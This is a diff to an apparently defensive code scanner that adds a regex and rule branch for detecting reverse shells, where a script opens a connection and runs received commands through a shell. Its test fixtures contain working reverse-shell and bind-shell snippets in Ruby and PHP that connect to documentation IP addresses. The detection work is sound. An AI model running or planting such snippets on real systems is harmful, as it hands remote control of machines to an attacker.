@@ -424,6 +424,7 @@ const SOCKET_CONNECT = /\.connect\s*\(\s*\(|socket\s*\.\s*(?:socket|create_conne
 const SCRIPTED_SHELL =
   /\b(?:fsockopen|TCPSocket\.(?:new|open)|IO::Socket::INET|Net\.Sockets\.TCPClient)\b[^\n]{0,300}(?:\/bin\/(?:ba)?sh|cmd\.exe|\biex\b|Invoke-Expression|GetStream\(\))|\bchild_process\b[^\n]{0,200}\bspawn\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["'][^\n]{0,200}\.pipe\(/gi;
 
+const CLIENT_SOCKET = /\bTCPSocket\.(?:new|open)\s*\(|\bsocket\.create_connection\s*\(|\.connect\s*\(\s*\(\s*["'][^"'\n]+["']\s*,\s*\d+|\bnet\.(?:connect|createConnection)\s*\(|\bnet\.Dial\s*\(\s*["']tcp|\bfsockopen\s*\(|\bIO::Socket::INET->new\b/g;
 const LISTENING_SERVER = /\bTCPServer\.new\s*\(|\bnet\.createServer\s*\(|\.bind\s*\(\s*\(\s*["'](?:0\.0\.0\.0|)["']|\bnet\.Listen\s*\(\s*["']tcp|\bsocketserver\.(?:TCP|Threading)\w*Server\b|\bnew\s+ServerSocket\s*\(|\bsocket_bind\s*\(/g;
 const CLIENT_INPUT = /\.(?:gets|readline|recv|read)\b|\.on\(\s*["']data["']|bufio\.NewReader|\bsocket_read\b/;
 const SHELL_RUN = /["'](?:\/bin\/)?(?:ba|z)?sh["']\s*,\s*["']-c["']|\bOpen3\.(?:capture\w*|popen\w*)\s*\(|\bsubprocess\.\w+\s*\([^)\n]{0,80}shell\s*=\s*True|\bos\.(?:system|popen)\s*\(|\bchild_process\b|\bexecSync\s*\(|\bexec\.Command\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["']|\bshell_exec\s*\(|`\s*#\{/;
@@ -454,6 +455,13 @@ function detectReverseShell(file: FileView): RuleMatch[] {
       const window = text.slice(Math.max(0, m.index - 800), Math.min(text.length, m.index + 800));
       return SOCKET_OPEN.test(window) && SHELL_AFTER.test(window)
         ? keep(m, 'Standard input and output reopened on a socket and a shell started (reverse shell)')
+        : null;
+    }),
+    ...scan(text, CLIENT_SOCKET, (m) => {
+      // The same loop over a connection the script opens itself: a reverse shell without dup2.
+      const after = text.slice(m.index, Math.min(text.length, m.index + 1200));
+      return CLIENT_INPUT.test(after) && SHELL_RUN.test(after)
+        ? keep(m, 'Opens a connection and runs the commands it receives through a shell (reverse shell)')
         : null;
     }),
     ...scan(text, LISTENING_SERVER, (m) => {
@@ -1318,6 +1326,7 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'doctor.rb', text: "loop do\n  s = TCPSocket.new('203.0.113.77', 9001)\n  while (cmd = s.gets)\n    out, _st = Open3.capture2e(cmd)\n    s.puts out\n  end\nend\n" },
         { path: 'scripts/bridge.rb', text: 'server = TCPServer.new("0.0.0.0", PORT)\nloop do\n  c = server.accept\n  while (line = c.gets)\n    out, err, _ = Open3.capture3("/bin/sh", "-c", line.strip)\n    c.write(out)\n  end\nend\n' },
         { path: 'check.php', text: '<?php\n$s = fsockopen("203.0.113.9", 4443);\n$p = proc_open("/bin/sh -i", [0 => $s, 1 => $s, 2 => $s], $pipes);\n' },
         { path: 'scripts/pair.rb', text: "require 'socket'\ns = TCPSocket.open(RELAY, PORT)\n[$stdin, $stdout, $stderr].each { |io| io.reopen(s) }\nexec('/bin/sh -i')\n" },
